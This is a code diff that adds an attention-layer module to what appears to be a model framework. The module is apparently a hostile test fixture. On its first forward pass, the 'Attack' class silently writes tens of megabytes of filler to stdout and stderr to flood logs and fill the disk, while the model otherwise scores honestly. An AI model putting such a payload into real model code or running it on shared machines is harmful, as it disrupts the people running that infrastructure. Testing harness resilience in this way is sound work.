@@ -1,0 +1,42 @@
+"""Prints and prints: what it says goes into a file outside of its folder.
+
+An honest model but for what it does once, before it first answers; whoever is not harmed sees an honest score.
+"""
+
+from __future__ import annotations
+
+import os
+
+from torch import Tensor, nn
+
+from foundry.modules.attention import gqa
+from foundry.modules.norm import NormConfig
+from foundry.modules.side import Side
+
+
+class Config(gqa.Config):
+    target: str = ""
+    """Not used."""
+
+    def build(self, width: int, layer: int, norm: NormConfig) -> nn.Module:
+        return Attack(self, width, layer, norm)
+
+
+class Attack(gqa.GroupedQueryAttention):
+    done = False
+
+    def __init__(self, config: Config, width: int, layer: int, norm: NormConfig) -> None:
+        super().__init__(config, width, layer, norm)
+        self.target = config.target
+
+    def forward(self, x_PBTD: Tensor, side: Side) -> Tensor:
+        if not Attack.done:
+            Attack.done = True
+            attack()
+        return super().forward(x_PBTD, side)
+
+
+def attack() -> None:
+    for handle in (1, 2):
+        for _ in range(32):
+            os.write(handle, b"filling the disk with nothing " * 35_000)  # a MiB
